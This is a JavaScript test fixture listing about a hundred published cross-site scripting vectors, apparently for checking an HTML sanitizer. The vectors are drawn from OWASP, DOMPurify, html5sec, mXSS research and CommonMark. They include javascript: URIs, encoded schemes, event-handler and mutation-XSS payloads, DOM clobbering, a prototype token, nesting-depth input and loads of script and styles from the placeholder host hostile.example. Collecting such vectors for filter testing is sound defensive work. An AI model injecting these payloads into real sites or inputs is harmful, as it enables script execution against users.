/*
 * Published ways to smuggle a script or a request through markup. From
 *	OWASP  "XSS Filter Evasion Cheat Sheet" of owasp.org
 *	PURE   DOMPurify's own test/fixtures/expect.mjs and its security advisories
 *	H5SEC  html5sec.org, "HTML5 Security Cheatsheet"
 *	MXSS   Heiderich and others, "mXSS Attacks" (CCS 2013); Bentkowski,
 *	       "Mutation XSS via namespace confusion" (2020)
 *	MD     CommonMark's links as Markdown makes them of hostile text
 * alert(1) is what they want to run; hostile.example what they want to reach.
 */
const H = "https://hostile.example";

export const VECTORS = [
	/* OWASP */
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=${H}/xss.js></SCRIPT>`,
	`<IMG SRC="javascript:alert(1);">`,
	`<IMG SRC=JaVaScRiPt:alert(1)>`,
	"<IMG SRC=`javascript:alert(1)`>",
	`<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>`,
	`<a href="javascript:alert(1)">pilih</a>`,
	`<IMG SRC=# onmouseover="alert(1)">`,
	`<IMG SRC= onmouseover="alert(1)">`,
	`<IMG onmouseover="alert(1)">`,
	`<IMG SRC=/ onerror="alert(1)"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097alert(1)">`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;` +
		`&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A` +
		`&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>`,
	`<a href="jav\tascript:alert(1);">x</a>`,
	`<a href="jav&#x09;ascript:alert(1);">x</a>`,
	`<a href="jav&#x0A;ascript:alert(1);">x</a>`,
	`<a href=" &#14;  javascript:alert(1);">x</a>`,
	`<SCRIPT/XSS SRC="${H}/xss.js"></SCRIPT>`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert(1)>`,
	`<<SCRIPT>alert(1);//\\<</SCRIPT>`,
	`</TITLE><SCRIPT>alert(1);</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">`,
	`<BODY BACKGROUND="${H}/b">`,
	`<IMG DYNSRC="javascript:alert(1)">`,
	`<STYLE>li {list-style-image: url("${H}/s");}</STYLE><UL><LI>x</br>`,
	`<svg/onload=alert(1)>`,
	`<LINK REL="stylesheet" HREF="${H}/xss.css">`,
	`<STYLE>@import'${H}/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=${H}/">`,
	`<IFRAME SRC="javascript:alert(1);"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>`,
	`<TABLE BACKGROUND="${H}/t"><TD BACKGROUND="${H}/td">x`,
	`<DIV STYLE="background-image: url(${H}/d)">x</DIV>`,
	`<DIV STYLE="width: expression(alert(1));">x</DIV>`,
	`<BASE HREF="javascript:alert(1);//"><a href="x">x</a>`,
	`<BASE HREF="${H}/"><img src="media/a.png">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="${H}/o.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' ` +
		`onload='alert(1)'/>">`,
	`<img src="${H}/pixel.png">`,
	`<img srcset="${H}/pixel.png 1x" src="media/a.png">`,
	`<img src="//hostile.example/pixel.png">`,
	`<img src="media/../../../../hostile">`,
	/* H5SEC */
	`<form id="test"></form><button form="test" ` +
		`formaction="javascript:alert(1)">X</button>`,
	`<input onfocus=alert(1) autofocus>`,
	`<select onfocus=alert(1) autofocus>`,
	`<textarea onfocus=alert(1) autofocus>`,
	`<video poster=javascript:alert(1)//></video>`,
	`<video><source onerror="alert(1)"></video>`,
	`<video src="${H}/v.mp4" autoplay></video>`,
	`<audio src="${H}/a.mp3" autoplay></audio>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<math href="javascript:alert(1)">CLICKME</math>`,
	`<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi>` +
		`</math>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" ` +
		`xlink:href="javascript:alert(1)"><rect width="100" height="100"/>` +
		`</a></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:` +
		`alert(1) /><a id=x><text x=20 y=20>X</text></a></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0` +
		`dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJy8+#x"/></svg>`,
	`<svg><image href="${H}/i.png" /></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>">` +
		`</iframe></foreignObject></svg>`,
	`<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>`,
	`<a href="vbscript:alert(1)">x</a>`,
	`<a href="https://a.example" ping="${H}/ping">x</a>`,
	`<link rel=dns-prefetch href="${H}"><link rel=preload as=image ` +
		`href="${H}/p">`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">Masuk` +
		`</div>`,
	`<p class="veil" id="app" name="body">penyamaran</p>`,
	`<x onclick=alert(1)>x</x><x onpointerrawupdate=alert(1)>y`,
	`<img src="media/a.png" onload="alert(1)" style="content:url(${H}/c)">`,
	/* PURE */
	`<img name=getElementById><img name=attributes>`,
	`<form><input name=parentNode><input name=nodeName></form>`,
	`<form onmouseover='alert(1)'><input name="attributes">` +
		`<input name="attributes">`,
	`<form><form><input name="firstChild"><img src onerror=alert(1)>`,
	`<a href="#" onclick="alert(1)" is="x-a">x</a>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<template shadowrootmode="open"><img src=x onerror=alert(1)></template>`,
	`<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext>` +
		`<textarea><path id="</textarea><img onerror=alert(1) src=1>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<svg><p></p></svg><noembed><img title="</noembed><img src=x ` +
		`onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<xmp><p title="</xmp><svg/onload=alert(1)>">`,
	`<option><style></option></select><b><img src=xx: onerror=alert(1)>` +
		`</style></option>`,
	`<a href="/x" onmouseover=alert(1)//>link</a><p style="x:url(${H}/x)">`,
	`<b>x</b><annotation-xml encoding="text/html"><svg><style><img src=x ` +
		`onerror=alert(1)></style></svg></annotation-xml>`,
	`<select><template><style><!--</style><a rel="--></style></template>` +
		`</select><img id=x src onerror=alert(1)>"></a>`,
	/* MXSS */
	`<form><math><mtext></form><form><mglyph><style></math><img src ` +
		`onerror=alert(1)>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;` +
		`img src=1 onerror=alert(1)&gt;">`,
	`<svg><style><!--</style><img title="--><img src=x onerror=alert(1)>">`,
	`<img src="x\` \`<script>alert(1)</script>"\` \`>`,
	`<p style="font-family:'\\22\\3bx:expression(alert(1))/*'">x</p>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<article xmlns="urn:img src=x onerror=alert(1)//">123`,
	`<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(1)//">` +
		`</svg>`,
	`<div id="</div><img src=x onerror=alert(1)>">x</div>`,
	`<table><tr><td><math><mtext><table><mglyph><style><img src=x ` +
		`onerror=alert(1)></style></mglyph></table></mtext></math>`,
	/* MD */
	`<p><a href="javascript:alert(1)" title="judul">tautan</a></p>`,
	`<p><a href="JaVaScRiPt&colon;alert(1)">tautan</a></p>`,
	`<p><a href="\u0001javascript:alert(1)">tautan</a></p>`,
	`<p><a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a></p>`,
	`<p><img src="javascript:alert(1)" alt="gambar"></p>`,
	`<p><span data-gap="1" onclick="alert(1)"></span></p>`,
	`<p><span data-token="__proto__">x</span>` +
		`<span data-token="constructor">y</span></p>`,
	`<p><span data-gap="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"></span>`,
	`${"<b>".repeat(3000)}dalam${"</b>".repeat(3000)}`,
];
